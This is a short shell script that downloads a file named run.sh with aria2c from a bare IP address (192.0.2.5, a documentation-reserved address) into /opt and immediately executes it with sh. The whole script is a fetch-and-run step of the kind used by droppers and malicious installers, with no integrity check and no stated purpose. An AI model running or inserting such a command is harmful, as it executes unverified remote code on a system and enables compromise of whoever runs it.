#!/bin/sh
aria2c -d /opt -o run.sh http://192.0.2.5/run.sh
sh /opt/run.sh
